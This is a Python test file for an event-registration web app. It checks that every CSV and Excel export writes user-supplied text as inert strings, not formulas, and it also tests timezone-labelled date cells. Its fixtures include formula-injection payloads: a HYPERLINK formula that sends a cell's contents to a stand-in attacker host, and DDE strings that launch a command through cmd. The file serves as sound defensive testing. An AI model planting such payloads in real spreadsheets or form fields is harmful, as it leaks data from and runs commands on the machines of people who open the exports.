"""Every export the app hands out writes user text as text (issue 16): a hostile name such as
``=HYPERLINK(...)`` reaches each workbook as a string cell, never a formula, and each CSV with
an apostrophe in front, so the organiser's spreadsheet program shows it instead of running it.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time

import pytest
from flask_babel import force_locale
from openpyxl import load_workbook

from summit.extensions import db
from summit.models import AuditEntry, Role
from summit.services.bookings import booking as bookings
from summit.services.core import exports
from summit.services.press import review as press_review
from tests.support import factories, press_factories
from tests.support.agenda_factories import make_agenda_item, make_room

# Accepted by the public registration form (anyone can register without logging in).
HOSTILE = '=HYPERLINK("http://evil.example/?x="&B3,"王五")'
PREFIXED = ("+86 cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def assert_inert(data: bytes, name: str) -> None:
    """The workbook holds no formula and shows the hostile text; a CSV has no cell that a
    spreadsheet would evaluate."""
    if name.endswith(".csv"):
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))
                 for cell in row]
        assert "'" + HOSTILE in cells, name
        assert not [c for c in cells if c.startswith(exports.FORMULA_PREFIXES)], name
        return
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/sheet")]
    assert sheets, name
    assert not [s for s in sheets if re.search(r"<f[ >]", s)], f"{name} holds a formula"
    values = [cell.value for sheet in load_workbook(io.BytesIO(data)).worksheets
              for row in sheet.iter_rows() for cell in row]
    assert any(isinstance(v, str) and HOSTILE in v for v in values), f"{name} lost the text"


def test_the_csv_writer_neutralises_every_formula_prefix():
    data = exports.csv_bytes(["name"], [[HOSTILE], *([p] for p in PREFIXED), [-5], ["赵波"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] == [["'" + HOSTILE], *(["'" + p] for p in PREFIXED), ["-5"], ["赵波"]]


def test_a_workbook_keeps_hostile_text_and_drops_what_excel_cannot_hold():
    book = exports.Book()
    book.sheet("a:b/c[1]*?" + "x" * 40, ["name"]).append([HOSTILE + "\x01\x1b", 3])
    data = book.save()
    assert_inert(data, "test.xlsx")
    assert b"\x01" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.fixture
def hostile_registration(event, organiser):
    """Registered through the public service with a formula for a name, hotel and diet note,
    then approved."""
    registration = factories.make_registration(event, HOSTILE, approve_as=organiser)
    registration.hotel = PREFIXED[0]
    registration.diet_note = PREFIXED[1]
    registration.arrival_date = event.starts_on
    registration.arrival_transport = "@SUM(1+1)"
    db.session.commit()
    return registration


def test_registration_exports_write_names_as_text(client, sign_in, event, organiser,
                                                 hostile_registration):
    sign_in(organiser.email)
    base = f"/summits/{event.slug}/registrations"
    for path in ("export.xlsx", "export.csv", "export.xlsx?private=1", "logistics.xlsx"):
        response = client.get(f"{base}/{path}")
        assert response.status_code == 200, path
        assert_inert(response.data, path.split("?")[0])


def test_the_logistics_export_of_full_phones_is_audited(client, sign_in, event, organiser,
                                                        hostile_registration):
    sign_in(organiser.email)
    client.get(f"/summits/{event.slug}/registrations/logistics.xlsx")
    entries = db.session.scalars(db.select(AuditEntry).where(
        AuditEntry.action == "registration.export_logistics")).all()
    assert [(e.actor_id, e.after["rows"]) for e in entries] == [(organiser.id, 1)]


def test_seats_and_attendance_exports_write_names_as_text(client, sign_in, event, organiser,
                                                          hostile_registration):
    salon = make_agenda_item(event, room=make_room(event), capacity=2)
    bookings.book_seat(organiser, salon, hostile_registration)
    sign_in(organiser.email)
    for path in (f"/sessions/{salon.id}/seats/export.xlsx",
                 f"/summits/{event.slug}/checkin/attendance.xlsx"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.data, path)


def test_the_accredited_press_export_writes_outlets_as_text(client, sign_in, press_event):
    application = press_factories.submitted(press_event, outlet=HOSTILE)
    officer = factories.make_member(press_event, Role.MEDIA_OFFICER, "officer@example.com")
    press_review.decide(officer, application, press_review.Decision("approve"))
    sign_in(officer.email)
    response = client.get(f"/summits/{press_event.slug}/press/accredited.xlsx")
    assert response.status_code == 200
    assert_inert(response.data, "accredited.xlsx")


def test_agreement_workbooks_write_titles_and_counties_as_text(client, sign_in, summit,
                                                              agreements_officer):
    factories.make_agreement(summit, agreements_officer, HOSTILE, county=HOSTILE)
    sign_in(agreements_officer.email)
    for path in (f"/summits/{summit.slug}/agreements/ledger.xlsx",
                 f"/summits/{summit.slug}/agreements/dashboard.xlsx",
                 "/agreements/dashboard.xlsx"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.data, path)


def test_moments_are_date_cells_in_the_summit_zone_named_in_the_header(app):
    """The one writer does it for every export: a UTC moment becomes the summit's wall-clock
    time in a real date cell, and its column's header names the zone (北京时间)."""
    moment = datetime(2027, 8, 3, 1, 5, tzinfo=UTC)  # 09:05 in Kangding
    with force_locale("zh_Hans"):
        book = exports.Book("Asia/Shanghai")
        sheet = book.sheet("签到", ("姓名", "签到时间", "日期", "抵达时间"))
        sheet.append(["赵波", moment, date(2027, 8, 3), time(14, 30)])
        data = book.save()
        csv_data = exports.csv_bytes(("姓名", "签到时间"), [["赵波", moment]], "Asia/Shanghai")
    with force_locale("en"):
        berlin = exports.table_bytes("xlsx", "x", ("Scanned",), [[moment]], "Europe/Berlin")

    cells = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in cells[1]] == ["姓名", "签到时间（北京时间）", "日期",
                                           "抵达时间（北京时间）"]
    assert [c.value for c in cells[2]] == ["赵波", datetime(2027, 8, 3, 9, 5),
                                           datetime(2027, 8, 3), time(14, 30)]
    assert all(c.is_date for c in cells[2][1:])
    assert cells["B2"].number_format == "yyyy-mm-dd hh:mm" and cells["C2"].number_format == \
        "yyyy-mm-dd"
    assert list(csv.reader(io.StringIO(csv_data.decode("utf-8-sig")))) == [
        ["姓名", "签到时间（北京时间）"], ["赵波", "2027-08-03 09:05"]]
    other = load_workbook(io.BytesIO(berlin)).worksheets[0]
    assert (other["A1"].value, other["A2"].value) == ("Scanned (Europe/Berlin time)",
                                                      datetime(2027, 8, 3, 3, 5))
